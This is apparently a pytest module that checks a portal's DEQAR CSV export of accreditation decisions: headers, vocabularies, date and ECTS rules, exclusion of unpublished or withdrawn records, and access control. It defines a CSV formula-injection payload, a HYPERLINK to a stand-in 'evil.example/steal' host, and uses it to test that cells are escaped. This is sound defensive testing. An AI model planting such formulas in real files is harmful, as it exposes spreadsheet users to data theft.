"""The DEQAR report-submission CSV of the agency's published decisions (issue 11).

The file is read back with the csv module and checked against DEQAR's rules
(``qaportal/register/deqar.py`` lists them with their source): the example files' headers,
the vocabularies, an institution identifier and a per-row date format on every row, whole
ECTS, QF-EHEA cycles, formula escaping, and nothing unpublished or withdrawn.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from qaportal.audit.models import AuditEvent
from qaportal.cases.models import CaseScope
from qaportal.catalogue.models import SpecificationVersion
from qaportal.db import get_session, utcnow
from qaportal.decisions.models import Decision, DecisionStatus, EqaStatus, Outcome
from qaportal.register import deqar
from qaportal.register.models import RegisterPublication
from qaportal.register.queries import PublishedDecision, PublishedReport
from qaportal.reporting.models import GeneratedDocument
from tests.casekit import make_world, org
from tests.conftest import login
from tests.test_catalogue_exports import create_published, full_data, minimal_data

STANDARDS = Path(__file__).resolve().parents[2] / "shared" / "standards"
PACKAGED = Path(__file__).resolve().parents[1] / "qaportal" / "data" / "standards"
HOSTILE = '=HYPERLINK("http://evil.example/steal","click")'
BASE = "https://qa.example.org"
INDEX = re.compile(r"\[\d+\]")


def example_headers() -> set[str]:
    """The union of the two example files' headers, with list indexes normalised."""
    names: set[str] = set()
    for name in ("deqar-submission-example-full.csv", "deqar-submission-example-programme.csv"):
        path = STANDARDS / name
        if not path.exists():
            pytest.skip(f"{path} not available")
        with path.open(encoding="utf-8", newline="") as handle:
            names.update(INDEX.sub("[]", h) for h in next(csv.reader(handle)))
    return names


# ----- a published world -------------------------------------------------------------------


def _decision(
    db: Any,
    case_id: int,
    *,
    outcome: Outcome = Outcome.POSITIVE,
    valid_until: dt.date | None = None,
    status: DecisionStatus = DecisionStatus.CURRENT,
) -> Decision:
    decision = Decision(
        case_id=case_id,
        status=status,
        outcome=outcome,
        eqa_status=EqaStatus.OBLIGATORY,
        rationale="The panel found every criterion met.",
        valid_from=dt.date(2026, 3, 1) if outcome != Outcome.NEGATIVE else None,
        valid_until=valid_until,
        decided_on=dt.date(2026, 2, 20),
    )
    db.add(decision)
    db.flush()
    return decision


def _report(db: Any, case_id: int, *, locale: str = "de", published: bool = True) -> None:
    db.add(
        GeneratedDocument(
            case_id=case_id,
            kind="accreditation-report",
            version=1,
            locale=locale,
            sha256="0" * 64,
            size=10,
            storage_path=f"test/report-{case_id}-{locale}.pdf",
            published_at=utcnow() if published else None,
        )
    )


def _publish(db: Any, decision: Decision, summary: str, *, withdrawn: bool = False) -> None:
    db.add(
        RegisterPublication(
            decision_id=decision.id,
            summary=summary,
            search_text=summary.lower(),
            withdrawn_at=utcnow() if withdrawn else None,
            withdrawal_reason="Published by mistake" if withdrawn else None,
        )
    )


@pytest.fixture
def register_world(app: Any, demo: Any) -> dict[str, Any]:
    return build_register_world(app)


def build_register_world(app: Any) -> dict[str, Any]:
    """(Demo data seeded.) The demo university's case decided and published with a report,
    two published micro-credentials in scope (5 ECTS at EQF 6; 2.5 ECTS at EQF 5), plus a
    second case of the same agency decided but never published and a third published then
    withdrawn."""
    world = make_world(app)
    unpublished = make_world(app, code="fw-unpublished")
    withdrawn_world = make_world(app, code="fw-withdrawn")
    with app.app_context():
        db = get_session()
        udv = org(db, "UDV")
        udv.deqar_id = "DEQARINST0042"
        udv.provider_type = "hei"
        full = create_published(db, udv, full_data(title=HOSTILE))
        small = create_published(
            db,
            udv,
            minimal_data(
                "Lab safety", ects=Decimal("2.5"), eqf_level=5, level_not_applicable=False
            ),
        )
        db.add(CaseScope(case_id=world.case_id, specification_id=full.specification_id))
        db.add(CaseScope(case_id=world.case_id, specification_id=small.specification_id))
        decision = _decision(db, world.case_id, outcome=Outcome.CONDITIONAL)
        _report(db, world.case_id)
        _publish(db, decision, HOSTILE)
        db.commit()

        hidden = _decision(db, unpublished.case_id)
        _report(db, unpublished.case_id)
        withdrawn = _decision(db, withdrawn_world.case_id)
        _report(db, withdrawn_world.case_id)
        _publish(db, withdrawn, "Withdrawn decision", withdrawn=True)
        db.commit()
        return {
            "world": world,
            "decision": decision.id,
            "hidden": hidden.id,
            "withdrawn": withdrawn.id,
            "agency": world.agency_id,
            "full": full.specification.public_id,
            "small": small.specification.public_id,
        }


def _csv(app: Any, agency_id: int) -> tuple[list[str], list[dict[str, str]]]:
    with app.app_context():
        text = deqar.deqar_csv(get_session(), agency_id, base_url=BASE)
    reader = csv.DictReader(io.StringIO(text, newline=""))
    rows = list(reader)
    return list(reader.fieldnames or []), rows


def _unescape(value: str) -> str:
    return value[1:] if value.startswith("'") and value[1:2] in "=+-@" else value


# ----- the checks -----------------------------------------------------------------------------


def test_headers_follow_the_examples_and_deqars_reader(app: Any, register_world: Any) -> None:
    header, rows = _csv(app, register_world["agency"])
    assert rows, "the published decision must be exported"
    known = example_headers()
    # Names DEQAR's reader takes that the examples leave out (csv_handler.FIELDS).
    reader_only = {"institution[].identifier[]", "institution[].resource[]"}
    for name in header:
        assert INDEX.sub("[]", name) in known | reader_only, name
    assert len(header) == len(set(header))
    # The example files' order: report fields, files, links, institutions, programmes.
    order = [
        "agency",
        "local_identifier",
        "status",
        "decision",
        "valid_from",
        "date_format",
        "file[1].original_location",
        "institution[1].deqar_id",
        "programme[1].name_primary",
    ]
    positions = [header.index(name) for name in order]
    assert positions == sorted(positions)
    assert ("activities[1].id" in header) != ("activities[1].activity" in header)


def test_every_value_is_in_deqars_vocabulary(app: Any, register_world: Any) -> None:
    _header, rows = _csv(app, register_world["agency"])
    assert len(rows) == 1
    for row in rows:
        assert row["agency"] == "DAQA"
        assert row["decision"] in deqar.DECISIONS
        assert row["decision"] == "positive with conditions or restrictions"
        assert row["status"] in deqar.STATUSES
        assert row["institution[1].deqar_id"] or row["institution[1].identifier[1]"]
        assert row["institution[1].deqar_id"] == "DEQARINST0042"
        assert row["institution[1].resource[1]"] == "local identifier"
        fmt = row["date_format"]
        assert fmt
        start = dt.datetime.strptime(row["valid_from"], fmt).date()
        end = dt.datetime.strptime(row["valid_to"], fmt).date()
        # No end of validity was set: DEQAR's default of six years.
        assert (start, end) == (dt.date(2026, 3, 1), dt.date(2032, 3, 1))
        language = row["file[1].report_language[1]"]
        assert re.fullmatch(r"[a-z]{2,3}", language) and language == "ger"
        assert row["file[1].original_location"].startswith(f"{BASE}/register/decisions/")
        assert row["link[1]"] == f"{BASE}/register/decisions/{register_world['decision']}"

        programmes = {
            row[f"programme[{n}].identifier[1]"]: n
            for n in (1, 2)
            if f"programme[{n}].name_primary" in row
        }
        assert set(programmes) == {register_world["full"], register_world["small"]}
        for n in programmes.values():
            p = f"programme[{n}]."
            assert row[p + "degree_outcome"] == "no full degree"
            assert re.fullmatch(r"[1-9]\d*", row[p + "workload_ects"])
            assert row[p + "qf_ehea_level"] in (*deqar.QF_EHEA_LEVELS, "")
            assert row[p + "assessment_certification"] in deqar.ASSESSMENT_VALUES
        full = f"programme[{programmes[register_world['full']]}]."
        small = f"programme[{programmes[register_world['small']]}]."
        assert (row[full + "workload_ects"], row[full + "qf_ehea_level"]) == ("5", "first cycle")
        # 2.5 ECTS round half up to 3; EQF 5 is the short cycle, not "level 5".
        assert (row[small + "workload_ects"], row[small + "qf_ehea_level"]) == ("3", "short cycle")
        assert row[full + "field_study"] == "0613"
        assert row[full + "learning_outcome[1]"].startswith("http://data.europa.eu/esco/skill/")
        assert "Evaluate the quality of a data set" in row[full + "learning_outcome_description"]


def test_hostile_text_is_neutralised(app: Any, register_world: Any) -> None:
    _header, rows = _csv(app, register_world["agency"])
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@")], "a formula reached the file"
    assert rows[0]["summary"] == "'" + HOSTILE
    assert _unescape(rows[0]["summary"]) == HOSTILE


def test_unpublished_and_withdrawn_decisions_are_absent(app: Any, register_world: Any) -> None:
    _header, rows = _csv(app, register_world["agency"])
    identifiers = {row["local_identifier"] for row in rows}
    assert any(i.endswith(f"-D{register_world['decision']}") for i in identifiers)
    for key in ("hidden", "withdrawn"):
        assert not any(i.endswith(f"-D{register_world[key]}") for i in identifiers)
    # Another organisation's id gives no rows (only the agency's own reports).
    _header, none = _csv(app, register_world["world"].provider_id)
    assert none == []


def _decision_data(**changes: Any) -> PublishedDecision:
    values: dict[str, Any] = dict(
        id=9,
        case_reference="DAQA-2026-0009",
        provider_id=4,
        provider_name="Nordic Vocational Training Centre",
        country="FI",
        provider_type="vet",
        outcome="negative",
        status="part of obligatory EQA system",
        decided_on=dt.date(2024, 2, 29),
        valid_from=None,
        valid_until=None,
        framework_code="ESG",
        framework_name="42",
        agency_id=1,
        agency_name="DAQA",
        summary="-1 criteria met",
        conditions=(),
        report=PublishedReport(1, 1, None, "0" * 64, 1, "fi", dt.datetime(2024, 3, 1)),
        specification_ids=(),
        published_at=dt.datetime(2024, 3, 1),
    )
    values.update(changes)
    return PublishedDecision(**values)


def test_rules_the_examples_do_not_show(app: Any, demo: Any) -> None:
    """Built from plain data: a numeric activity becomes the id column, an alternative
    provider's report is voluntary, a leap day plus six years stays a valid date, a leading
    minus is escaped, and a Finnish report is "fin"."""
    with app.app_context():
        db = get_session()
        agency, nvtc = org(db, "DAQA"), org(db, "NVTC")
        nvtc.provider_type = "vet"
        row = deqar.decision_row(_decision_data(), base_url=BASE, agency=agency, provider=nvtc)
        text = deqar.rows_to_csv([row])
    parsed = list(csv.DictReader(io.StringIO(text, newline="")))
    assert "activities[1].id" in parsed[0] and parsed[0]["activities[1].id"] == "42"
    assert parsed[0]["status"] == "voluntary"  # DEQAR: alternative providers only voluntary
    assert parsed[0]["decision"] == "negative"
    assert parsed[0]["valid_from"] == "2024-02-29" and parsed[0]["valid_to"] == "2030-02-28"
    assert parsed[0]["summary"] == "'-1 criteria met"
    assert parsed[0]["file[1].report_language[1]"] == "fin"
    assert parsed[0]["institution[1].identifier[1]"] == "qaportal-provider-4"
    assert not [k for k in parsed[0] if k.startswith("programme[")]


def test_workload_is_a_whole_number() -> None:
    assert deqar.workload_ects(SpecificationVersion(ects=Decimal("0.4"))) == 1
    assert deqar.workload_ects(SpecificationVersion(ects=Decimal("4.5"))) == 5
    assert deqar.workload_ects(SpecificationVersion(hours=16)) == 1
    assert deqar.workload_ects(SpecificationVersion(hours=140)) == 5
    assert deqar.qf_ehea_level(SpecificationVersion(eqf_level=4)) == ""
    assert deqar.qf_ehea_level(SpecificationVersion(eqf_level=8)) == "third cycle"


# ----- the download ---------------------------------------------------------------------------


def test_officer_downloads_the_agencys_csv_and_it_is_audited(
    app: Any, client: Any, demo: Any, register_world: Any
) -> None:
    login(client, "officer@agency.example.org", demo.password)
    url = f"/agencies/{register_world['agency']}/register/deqar.csv"
    response = client.get(url)
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))
    assert len(rows) == 1
    with app.app_context():
        events = get_session().execute(
            select(AuditEvent).where(AuditEvent.action == "register.deqar_exported")
        )
        assert len(events.scalars().all()) == 1


def test_provider_staff_cannot_download(client: Any, demo: Any, register_world: Any) -> None:
    login(client, "admin@university.example.org", demo.password)
    response = client.get(f"/agencies/{register_world['agency']}/register/deqar.csv")
    assert response.status_code in (403, 404)
